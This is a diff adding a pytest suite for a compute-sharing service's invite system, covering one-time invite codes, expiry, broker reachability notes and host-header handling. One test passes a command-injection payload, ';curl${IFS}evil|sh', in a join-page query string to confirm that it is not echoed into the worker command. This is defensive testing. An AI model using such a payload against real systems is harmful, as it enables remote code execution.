@@ -1,0 +1,226 @@
+"""Invites: one machine each, once, for a short while; and the worker's side of taking one up."""
+
+import secrets
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import httpx2
+import pytest
+from sqlalchemy import update
+from starlette.testclient import TestClient
+
+from api.database import Database, now_ms
+from api.errors import Conflict
+from api.fleet.invites import INVITE, Invites, is_local
+from api.main import create_app
+from api.scheduler.machines import remember
+from computeshare.errors import ComputeShareError, SettingsError
+from computeshare.queue import WorkerInfo
+from computeshare.settings import Settings
+from computeshare.worker.invite import join
+from tests.support.served_api import serving
+
+BROKER = "rediss://broker.example:6379"
+
+
+@pytest.fixture
+def plane(tmp_path: Path, redis_url: str) -> Iterator[tuple[str, Settings]]:
+    """A control plane on a socket, and the headers of its owner."""
+    settings = Settings(home=tmp_path / "plane", redis_url=redis_url)
+    with serving(settings) as (url, _):
+        yield url, settings
+
+
+OWN_NAMES = ("studio.local", "localhost")
+
+
+def invite(client: TestClient, queue: str = "mnist") -> dict[str, str]:
+    answer = client.post("/v1/invites", json={"queue": queue})
+    assert answer.status_code == 201
+    found: dict[str, str] = answer.json()
+    assert answer.headers["location"] == f"/v1/invites/{found['id']}"
+    return found
+
+
+def path_of(made: dict[str, str]) -> str:
+    return "/join/" + made["url"].rpartition("/")[2]
+
+
+def test_an_invite_says_what_to_type_and_shows_its_code_once(client: TestClient) -> None:
+    made = invite(client)
+    assert made["command"] == f"computeshare-worker --queue mnist --join {made['url']}"
+    assert made["qr"].startswith("data:image/svg+xml")
+    shown = client.get(f"/v1/invites/{made['id']}").json()
+    assert (shown["status"], shown["worker"], shown.get("url")) == ("pending", None, None)
+    code = made["url"].rpartition("/")[2]
+    assert code not in client.get("/v1/invites").text
+
+
+def test_a_machine_elsewhere_is_told_that_the_broker_is_out_of_its_reach(client: TestClient) -> None:
+    made = invite(client)
+    del client.headers["authorization"]
+    refused = client.post(path_of(made), json={"name": "anna's mac"})  # a test client has no address of this machine
+    assert refused.status_code == 409
+    assert "its own machine only" in refused.json()["detail"]
+    assert made["note"] is not None
+
+
+def test_exchange_over_loopback_gives_the_broker_and_the_next_start_keeps_it(
+    plane: tuple[str, Settings], tmp_path: Path
+) -> None:
+    url, settings = plane
+    headers = {"Authorization": f"Bearer {settings.ensure_token()}"}
+    with httpx2.Client(base_url=url, headers=headers) as owner:
+        made = owner.post("/v1/invites", json={"queue": "mnist"}).json()
+        assert join(made["url"], "anna's mac", tmp_path / "worker") == settings.redis_url
+        assert join(made["url"], "anna's mac", tmp_path / "worker") == settings.redis_url  # as when it starts again
+        with pytest.raises(SettingsError, match="was used already"):
+            join(made["url"], "another", tmp_path / "other")
+        shown = owner.get(f"/v1/invites/{made['id']}").json()
+        assert (shown["status"], shown["worker"]) == ("taken", "anna's mac")
+    kept = tmp_path / "worker" / "joined.json"
+    assert kept.stat().st_mode & 0o077 == 0
+
+
+def test_an_answer_that_was_lost_is_given_again_to_the_same_machine_and_to_no_other(
+    plane: tuple[str, Settings], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    url, settings = plane
+    headers = {"Authorization": f"Bearer {settings.ensure_token()}"}
+    link = httpx2.post(f"{url}/v1/invites", json={}, headers=headers).json()["url"]
+    post = httpx2.post
+
+    def cut_off(*arguments: Any, **named: Any) -> None:
+        post(*arguments, **named)
+        raise httpx2.ReadTimeout("the answer was lost")
+
+    with monkeypatch.context() as patch:
+        patch.setattr(httpx2, "post", cut_off)
+        with pytest.raises(ComputeShareError, match="no control plane answers"):
+            join(link, "mac", tmp_path / "worker")
+    with pytest.raises(SettingsError, match="was used already"):
+        join(link, "mac", tmp_path / "other")
+    assert join(link, "mac", tmp_path / "worker") == settings.redis_url
+    assert (tmp_path / "worker" / "joining.key").stat().st_mode & 0o077 == 0
+
+
+def test_the_same_key_gets_the_same_answer_until_the_invite_expires(database: Database) -> None:
+    invites = Invites(database, lambda: BROKER)
+    made, code = invites.create("mnist", 15)
+    for _ in range(2):
+        assert invites.take_up(code, "mac", "k" * 16, from_here=False).redis_url == BROKER
+    for key in (None, "l" * 16):
+        with pytest.raises(Conflict, match="was used already"):
+            invites.take_up(code, "mac", key, from_here=False)
+    with database.writing() as connection:
+        connection.execute(update(INVITE).values(expires_ms=now_ms() - 1))
+    with pytest.raises(Conflict, match="was used already"):
+        invites.take_up(code, "mac", "k" * 16, from_here=False)
+    assert invites.show(made.id).status == "taken"
+
+
+def test_a_machine_has_joined_once_it_is_heard_of_on_the_queue(database: Database) -> None:
+    invites, now = Invites(database, lambda: BROKER), now_ms()
+    made, code = invites.create("mnist", 15)
+
+    def heard(name: str, queue: str, at_ms: int) -> str:
+        worker = WorkerInfo(secrets.token_hex(6), name, "cpu", ("other", queue), {}, 1, "h", 1, last_seen_ms=at_ms)
+        with database.writing() as connection:
+            remember(connection, worker, at_ms)
+        return invites.show(made.id).status
+
+    assert heard("mac", "mnist", now - 3_600_000) == "pending"
+    invites.take_up(code, "mac", None, from_here=False)
+    assert invites.show(made.id).status == "taken"
+    assert heard("studio", "mnist", now) == heard("mac", "elsewhere", now) == "taken"
+    assert heard("mac", "mnist", now) == "joined"
+    assert [one.status for one in invites.list().items] == ["joined"]
+
+
+def test_what_stands_behind_the_link_is_not_in_the_command(client: TestClient) -> None:
+    made = invite(client)
+    page = client.get(f"{path_of(made)}?x=;curl${{IFS}}evil|sh", headers={"accept": "text/html"})
+    assert f"--join {made['url']}<" in page.text and "evil" not in page.text
+
+
+def test_invited_machines_get_the_address_that_is_meant_for_them(tmp_path: Path, redis_url: str) -> None:
+    settings = Settings(home=tmp_path, redis_url=redis_url, token="secret", public_redis_url="rediss://b.example:6379")
+    with TestClient(create_app(settings), base_url="http://localhost") as client:
+        client.headers["authorization"] = "Bearer secret"
+        made = invite(client)
+        del client.headers["authorization"]
+        given = client.post(path_of(made), json={"name": "anna's mac"}).json()
+    assert given == {"redis_url": "rediss://b.example:6379", "queue": "mnist"}
+
+
+def test_a_name_that_only_the_brokers_network_knows_is_warned_of(database: Database) -> None:
+    def noted(url: str) -> str | None:
+        return Invites(database, lambda: url).note()
+
+    note = noted("redis://:secret@valkey:6379/0") or ""
+    assert "valkey" in note and "COMPUTESHARE_PUBLIC_REDIS_URL" in note and "secret" not in note
+    for url in (BROKER, "redis://10.0.0.5:6379", "redis://[2001:db8::1]:6379"):
+        assert noted(url) is None
+
+
+def test_all_that_keeps_another_machine_from_joining_is_said_at_once(tmp_path: Path) -> None:
+    settings = Settings(home=tmp_path, redis_url="redis://127.0.0.1:6379", token="secret", url="http://studio.local")
+    with TestClient(create_app(settings)) as client:
+        client.headers["authorization"] = "Bearer secret"
+        notes = {host: client.post(f"http://{host}/v1/invites", json={}).json()["note"] for host in OWN_NAMES}
+    assert "COMPUTESHARE_REDIS_URL" in notes["studio.local"] and "--host" not in notes["studio.local"]
+    assert "COMPUTESHARE_REDIS_URL" in notes["localhost"] and "--host 0.0.0.0" in notes["localhost"]
+
+
+def test_what_is_no_invite_is_said_so_without_repeating_its_code(plane: tuple[str, Settings], tmp_path: Path) -> None:
+    url, _ = plane
+    with pytest.raises(SettingsError, match="no such invite") as error:
+        join(f"{url}/join/sesame", "mac", tmp_path)
+    assert "sesame" not in str(error.value)
+    with pytest.raises(SettingsError, match="is no invite's link"):
+        join(f"{url}/healthz", "mac", tmp_path)
+    with pytest.raises(SettingsError, match="no control plane answers"):
+        join("http://127.0.0.1:1/join/x", "mac", tmp_path)
+
+
+def test_an_invite_expires_and_can_be_withdrawn(client: TestClient, database: Database) -> None:
+    made = invite(client)
+    with database.writing() as connection:
+        connection.execute(update(INVITE).where(INVITE.c.id == made["id"]).values(expires_ms=now_ms() - 1))
+    assert client.get(f"/v1/invites/{made['id']}").json()["status"] == "expired"
+    page = client.get(path_of(made), headers={"accept": "text/html"})
+    assert "has expired" in page.text
+    assert client.delete(f"/v1/invites/{made['id']}").status_code == 204
+    assert client.delete(f"/v1/invites/{made['id']}").status_code == 404
+    assert client.get(path_of(made)).status_code == 404
+
+
+@pytest.mark.parametrize("body", [{"queue": "no spaces"}, {"minutes": 0}, {"minutes": True}, {"more": 1}], ids=str)
+def test_what_cannot_be_is_refused(client: TestClient, body: dict[str, object]) -> None:
+    assert client.post("/v1/invites", json=body).status_code == 422
+
+
+@pytest.mark.parametrize(
+    ("url", "local"),
+    [
+        ("unix:///tmp/broker.sock", True),
+        ("redis://127.0.0.1:6379/0", True),
+        ("redis://:secret@localhost/0", True),
+        ("redis://[::1]:6379", True),
+        ("redis:///0", True),
+        ("redis://0.0.0.0:6379", True),
+        ("rediss://broker.example:6379", False),
+        ("redis://192.168.1.4:6379", False),
+    ],
+    ids=str,
+)
+def test_a_broker_that_others_cannot_reach_is_told(url: str, local: bool) -> None:
+    assert is_local(url) is local
+
+
+def test_the_host_header_has_no_say_in_what_is_open_to_all(client: TestClient) -> None:
+    del client.headers["authorization"]
+    for host in ("localhost/static/?", "localhost/join/x?", "localhost/healthz?"):
+        assert client.get("/v1/jobs", headers={"host": host}).status_code in (400, 401)
+    assert client.get("/v1/jobs").status_code == 401
